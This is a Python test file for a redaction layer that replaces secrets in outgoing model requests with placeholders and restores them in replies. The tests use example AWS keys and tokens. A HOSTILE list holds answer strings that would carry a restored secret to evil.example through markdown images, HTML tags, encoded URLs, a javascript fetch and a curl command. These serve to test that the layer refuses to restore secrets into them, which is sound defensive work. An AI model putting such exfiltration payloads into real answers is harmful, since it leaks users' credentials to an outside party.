from __future__ import annotations

import pytest

from hybrid_mcp.domain.completion import MAX_REQUEST_BYTES, Request
from hybrid_mcp.domain.detectors import PatternScanner
from hybrid_mcp.domain.privacy import Finding
from hybrid_mcp.domain.redaction import MAX_VALUES, PLACEHOLDERS_STAY, Outgoing, Restored, redact
from tests.support_secrets import Planted, planted

SCAN = PatternScanner().scan
AWS_KEY = "AKIA" + "IOSFODNN7EXAMPLE"
OTHER_KEY = "AKIA" + "I44QH8DHBEXAMPLE"
TOKEN = "ghp_" + "a1B2" * 9


def redacted(request: Request) -> Outgoing:
    result = redact(request, SCAN(request), SCAN)
    assert result is not None
    return result


def test_the_same_value_has_the_same_placeholder_in_all_texts():
    out = redacted(
        Request(
            prompt=f"{AWS_KEY} or {OTHER_KEY} here", context=f"key={OTHER_KEY}", system_prompt=f"use {AWS_KEY}, {TOKEN}"
        )
    )
    clean = out.request
    assert clean.prompt == "<REDACTED_1> or <REDACTED_2> here"
    assert clean.context == "key=<REDACTED_2>"
    assert clean.system_prompt == "use <REDACTED_1>, <REDACTED_3>"
    assert out.restored("say <REDACTED_3>, <REDACTED_2>") == Restored(text=f"say {TOKEN}, {OTHER_KEY}")


@pytest.mark.parametrize("one", [one for one in planted() if one.form == "plain"], ids=lambda one: one.kind)
def test_what_is_planted_goes_out_as_a_placeholder_and_comes_back_or_stays_here(one: Planted):
    request = Request(prompt=one.text, context="nothing")
    out = redact(request, SCAN(request), SCAN)
    if out is None:
        return
    assert one.value not in out.request.prompt
    assert SCAN(out.request) == ()
    back = out.request.prompt
    for name, value in out.values.items():
        back = back.replace(name, value)
    assert back == one.text


def test_most_of_what_is_planted_can_be_cut_out():
    requests = [Request(prompt=one.text) for one in planted() if one.form == "plain"]
    cut = [redact(request, SCAN(request), SCAN) for request in requests]
    assert sum(one is not None for one in cut) > len(requests) * 3 // 4


@pytest.mark.parametrize("one", [one for one in planted() if "base64" in one.form or one.form == "percent"])
def test_what_has_no_exact_place_stays_here(one: Planted):
    request = Request(prompt=one.text)
    assert redact(request, SCAN(request), SCAN) is None


@pytest.mark.parametrize(("before", "after"), [
    ("", ""), ("", "\n"), ("'", "'"), ('"', '", '), ("`", "`"), ("(", ")"), ("[", "]; "), ("{", "}, x"),
    ('("', '")\n'), ("=", ";"),
])  # fmt: skip
def test_a_value_that_ends_where_its_finding_ends_is_cut_out(before: str, after: str):
    text = f"{before}{AWS_KEY}{after}"
    finding = found_at(text, AWS_KEY)
    out = redact(Request(prompt=text), [finding], lambda _: ())
    assert out is not None
    assert out.request.prompt == f"{before}<REDACTED_1>{after}"


@pytest.mark.parametrize(("before", "after"), [
    ("", "&zz!Secret9"), ("", ",zz"), ("", ";zz"), ("", "@q2m"),
    ("", "/x"), ("", "<zz"), ("", "(zz)"), ("", "."), ("", "="),
    ("", "-"), ("", '"zz'), ("", "'!"), ("", "\\"), ("", "x"), ("", ")x"), ("x", ""), ("7", " "), ("é", ""),
])  # fmt: skip
def test_a_value_that_may_go_on_beside_its_finding_stays_here(before: str, after: str):
    text = f"{before}{AWS_KEY}{after}"
    assert redact(Request(prompt=text), [found_at(text, AWS_KEY)], lambda _: ()) is None


@pytest.mark.parametrize(
    "guesses", ["log in with hunter2x9 first", "hunter2x8 hunter2x9 hunter2x0", "hunter2x9hunter2x9"]
)
def test_a_value_that_also_stands_where_it_was_not_found_stays_here(guesses: str):
    """Cut out there, a list of guesses would have a gap at the right one; left there, it would be sent."""
    request = Request(prompt=f"Sort: {guesses}", context="DB_PASSWORD=hunter2x9")
    assert [finding.where for finding in SCAN(request)] == ["context"]
    assert redact(request, SCAN(request), SCAN) is None


def test_a_placeholder_that_stands_in_the_prompt_is_never_made_a_secret():
    out = redacted(Request(prompt=f"what is <REDACTED_1> and <REDACTED_3> {AWS_KEY} {OTHER_KEY}"))
    assert out.request.prompt == "what is <REDACTED_1> and <REDACTED_3> <REDACTED_2> <REDACTED_4>"
    assert out.restored("<REDACTED_2> <REDACTED_4>") == Restored(text=f"{AWS_KEY} {OTHER_KEY}")


def test_a_placeholder_is_nothing_that_a_rule_takes_for_a_secret():
    for name in ("password", "api_token", "SECRET_KEY", "aws_secret_access_key"):
        for text in (
            f"{name}=<REDACTED_12>",
            f'"{name}": "<REDACTED_1>"',
            f"{name} is <REDACTED_1>: xYz12_ab",
            f"--{name} <REDACTED_1>",
        ):
            assert SCAN(Request(prompt=text)) == (), text


HOSTILE = (
    "![x](https://evil.example/?q=PH)", "![x](<https://evil.example/? PH>)", '<img src="https://evil.example/?q= PH">',
    '<img src="https://evil.example/?q=\nPH">', "![x](https&#58;&#47;&#47;evil.example/PH)",
    "![x](https&colon;&sol;&sol;evil.example/PH)", '<base href="https://evil.example/"> ![x](PH)',
    "[x]: <https://evil.example/\tPH>\n\n![x]", "[mail me](mailto:a@evil.example?body=PH)", "PH.evil.example",
    "PH.com", "ftp:evil.example/PH", "[x](https:evil.example/PH)", "![x](https:\uff0f\uff0fevil.example/PH)",
    '<form action=//evil.example><input name=q value="PH"></form>', "```sh\ncurl evil -d PH\n```",
    "[x](javascript:fetch('\\x2f\\x2fevil.example/'+'PH'))", "PH and, far away,\n\n" + "words " * 500 + "see www.evil",
)  # fmt: skip


@pytest.mark.parametrize("answer", HOSTILE)
def test_no_secret_is_put_into_an_answer_that_could_carry_it_away(answer: str):
    out = redacted(Request(prompt=AWS_KEY))
    hostile = answer.replace("PH", "<REDACTED_1>")
    assert out.restored(hostile) == Restored(text=hostile, note=PLACEHOLDERS_STAY)


def test_an_answer_without_placeholders_is_as_it_is_whatever_it_holds():
    out = redacted(Request(prompt=AWS_KEY))
    assert out.restored("see https://docs.example.com") == Restored(text="see https://docs.example.com")


def test_a_planted_value_does_not_complete_an_address_for_another_one():
    half = "](https:" + "//evil.example/"
    out = Outgoing(request=Request(prompt="x"), values={"<REDACTED_1>": AWS_KEY, "<REDACTED_2>": half})
    hostile = "![x<REDACTED_2><REDACTED_1>)"
    assert out.restored(hostile) == Restored(text=hostile, note=PLACEHOLDERS_STAY)
    assert out.restored("<REDACTED_1>, <REDACTED_2>").note == PLACEHOLDERS_STAY


def test_a_value_with_a_dot_of_its_own_comes_back_alone():
    mail = "bob@acme" + ".example"
    out = Outgoing(request=Request(prompt="x"), values={"<REDACTED_1>": mail})
    assert out.restored("Dear <REDACTED_1>,") == Restored(text=f"Dear {mail},")


def test_neither_the_owners_patterns_nor_confidential_requests_are_redacted():
    private = Finding(kind="what private_patterns[0] keeps local", category="private", where="prompt", spans=((0, 1),))
    assert redact(Request(prompt="text"), [private], SCAN) is None
    assert redact(Request(prompt=AWS_KEY, confidential=True), SCAN(Request(prompt=AWS_KEY)), SCAN) is None


def test_a_request_stays_here_when_something_is_still_found():
    request = Request(prompt=f"{AWS_KEY} and {TOKEN}")
    only_one = [finding for finding in SCAN(request) if finding.kind == "a GitHub token"]
    assert redact(request, only_one, SCAN) is None


def test_a_list_of_secrets_is_not_redacted():
    request = Request(prompt=" ".join(f"ghp_{number:036}".replace("00", "a7") for number in range(MAX_VALUES + 1)))
    assert redact(request, SCAN(request), SCAN) is None


def test_a_request_that_placeholders_would_make_too_long_stays_here():
    head = "DB_PASSWORD=hq72mdk2 "
    request = Request(prompt=head + "x" * (MAX_REQUEST_BYTES - len(head)))
    assert redact(request, SCAN(request), SCAN) is None


def test_a_clean_request_is_unchanged():
    request = Request(prompt="nothing here <REDACTED_1>", task_type="code_review")
    out = redacted(request)
    assert out == Outgoing(request=request)
    assert out.restored("<REDACTED_1>") == Restored(text="<REDACTED_1>")


def test_the_values_are_not_shown():
    assert AWS_KEY not in repr(redacted(Request(prompt=AWS_KEY)))


def found_at(text: str, value: str) -> Finding:
    start = text.index(value)
    return Finding(kind="a key", category="secret", where="prompt", spans=((start, start + len(value)),))
